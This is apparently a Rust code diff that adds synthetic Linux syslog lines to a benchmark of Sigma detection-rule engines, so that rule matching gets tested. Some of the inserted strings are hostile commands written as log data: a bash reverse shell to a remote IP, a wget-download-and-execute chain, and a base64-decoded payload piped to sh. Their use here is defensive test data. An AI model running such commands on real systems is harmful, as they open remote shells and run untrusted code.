@@ -203,6 +203,31 @@ fn linux_events(shared: &Path) -> Vec<Event> {
             linux.push(parser.parse(line.as_bytes(), Origin::new(OriginKind::File, "bench")));
         }
     }
+    // The loghub samples match no SigmaHQ Linux rule; every 20th event is replaced by a
+    // line carrying a keyword some of those rules look for (sshd, named, cron, shell and
+    // buffer overflow keyword rules), so that the comparison covers matching too.
+    let hostile = [
+        "Mar  1 10:00:01 web1 sshd[811]: error: Corrupted MAC on input.",
+        "Mar  1 10:00:02 web1 sshd[812]: fatal: buffer_get_string: bad string length",
+        "Mar  1 10:00:03 web1 sshd[813]: error: unexpected internal error in libcrypto",
+        "Mar  1 10:00:04 ns1 named[77]: client 10.0.0.9#53: denied AXFR from 10.0.0.9",
+        "Mar  1 10:00:05 ns1 named[77]: exiting (due to fatal error)",
+        "Mar  1 10:00:06 web1 kernel: [1234.5] stack smashing detected: terminated",
+        "Mar  1 10:00:07 web1 bash[900]: cmd: bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
+        "Mar  1 10:00:08 web1 bash[901]: cmd: python -m SimpleHTTPServer 8000",
+        "Mar  1 10:00:09 web1 bash[902]: cmd: cd /tmp; wget http://x/a; chmod +x a; ./a",
+        "Mar  1 10:00:10 web1 crontab[903]: (root) REPLACE (root)",
+        "Mar  1 10:00:11 web1 bash[904]: cmd: echo d2hvYW1p | base64 -d | sh",
+        "Mar  1 10:00:12 web1 sshd[814]: error: invalid certificate signing key",
+    ];
+    let mut i = 0;
+    for slot in linux.iter_mut().step_by(20) {
+        *slot = parser.parse(
+            hostile[i % hostile.len()].as_bytes(),
+            Origin::new(OriginKind::File, "bench"),
+        );
+        i += 1;
+    }
     linux
 }
 
@@ -287,7 +312,7 @@ fn main() {
         linux_rules.retain(|m| is_linux(&m.logsource.product));
         let linux_theirs = load_rsigma(&dirs, &|r| is_linux(&r.logsource.product));
         rows.push(scenario(
-            "(c) linux syslog, linux rules",
+            "(c) linux syslog (1 in 20 with rule keywords), linux rules",
             &linux_rules,
             &linux_theirs,
             &linux,
